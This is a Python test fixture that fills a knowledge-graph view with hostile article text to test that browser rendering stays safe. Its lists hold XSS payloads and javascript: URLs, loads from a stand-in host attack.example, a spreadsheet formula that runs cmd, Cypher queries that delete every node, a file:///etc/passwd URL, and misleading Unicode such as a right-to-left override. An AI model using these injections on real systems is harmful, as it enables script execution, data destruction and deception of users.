"""Article text that attacks whoever shows it: markup, scripts, URLs, formulas, queries, and Unicode that misleads."""

from __future__ import annotations

from dataclasses import replace

from kg.export.property_graph import GraphView
from kg.model import Article, Entity
from tests.browser.synthetic import ID, ONTOLOGY, make_claim

CALL = "window.__hit=(window.__hit||0)+1"
SERVER = "https://attack.example"

TEXTS = (
    f"</script><script>{CALL}</script>",
    f"</SCRIPT ><script src={SERVER}/a.js></script>",
    f"<!--<script>{CALL}//--></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={SERVER}/pixel.png>",
    f"<svg/onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={SERVER}/frame></iframe>",
    f"<link rel=stylesheet href={SERVER}/a.css>",
    f"<style>@import url({SERVER}/b.css);</style>",
    f"<meta http-equiv=refresh content='0;url={SERVER}/'>",
    f"<base href={SERVER}/>",
    f"<form action={SERVER}/form><input autofocus onfocus={CALL}></form>",
    f"<a href=javascript:{CALL}>href</a>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<object data={SERVER}/o></object><embed src={SERVER}/e>",
    f'" onmouseover={CALL} x="',
    f"' onfocus={CALL} autofocus '",
    f"`-{CALL}-`",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f'"}};{CALL};//',
    f"'];{CALL};//",
    "]]> <![CDATA[",
    "{{data}} {{style}} {{hashes}}",
    "line\u2028separator\u2029and\u0085next",
    "\u202egnp.exe\u202c \u2066isolate \u200bzero\ufeffwidth",
    "nul\x00 bell\x07 escape\x1b[31m vertical\x0b",
    "half a pair \ud83d and a whole \U0001f600\U0001f1eb\U0001f1f7",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0335\u031el\u0331g\u033a\u031eo",
    '=HYPERLINK("https://attack.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'}) DETACH DELETE n //",
    "\\u0027}) MATCH (n) DETACH DELETE n //",
    "\\\\u0027; \\",
    "back`tick; semi;colon\r\nnew\nline\ttab \"quote\" 'single'",
    "__proto__",
    "constructor",
    "x" * 5000,
)

URLS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\nscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    f'https://ok.example/" onclick="{CALL}',
    f"http://ok.example/</script><script>{CALL}</script>",
    "//attack.example/x",
    "blob:null/1",
)


def hostile_view() -> GraphView:
    """A view with each of TEXTS in each field that an article, or a model that reads one, could fill."""
    claims, entities, articles = [], [], []
    for i, text in enumerate(TEXTS):
        subject, object_ = f"{ID}s{i}", f"{ID}hub" if i % 2 else f"{ID}{text}"
        entities.append(Entity(str(i), "Person" if i % 3 else text, text, subject, (text, f"alias {i}"), (), (text,)))
        url = URLS[i % len(URLS)]
        articles.append(Article(f"a{i}{text}", text, text, url, text, (text,), text if i % 2 else "2025-01-02"))
        shared = {
            "article": f"a{i}{text}",
            "subject": text,
            "subject_iri": subject,
            "subject_aliases": (text,),
            "attributed_to": text,
            "time": text if i % 2 else "2025-01-02",
            "time_text": text,
            "place": text,
            "sentence": text,
            "start": 0,
            "end": len(text),
            "trigger_start": 1,
            "trigger_end": min(9, len(text)),
            "rule": text,
            "extractor": text,
            "predicate_text": text,
            "event_type": text,
        }
        predicate = text if i % 4 == 0 else "metWith"
        claims.append(
            make_claim(
                id=f"c{i}",
                object=text,
                object_iri=object_,
                object_type=text,
                predicate=predicate,
                predicate_iri=ONTOLOGY + predicate,
                **shared,
            )
        )
        claims.append(make_claim(id=f"f{i}", object=text, object_iri=None, datatype=text, predicate="age", **shared))
    hub = Entity("hub", "Person", "Hub of all", f"{ID}hub")
    return GraphView(tuple(claims), (*entities, hub), tuple(articles))


def printable(view: GraphView) -> GraphView:
    """The same without lone surrogates, for what compares texts with what a file can hold."""
    return replace(view, claims=tuple(c for c in view.claims if "\ud83d" not in c.sentence))
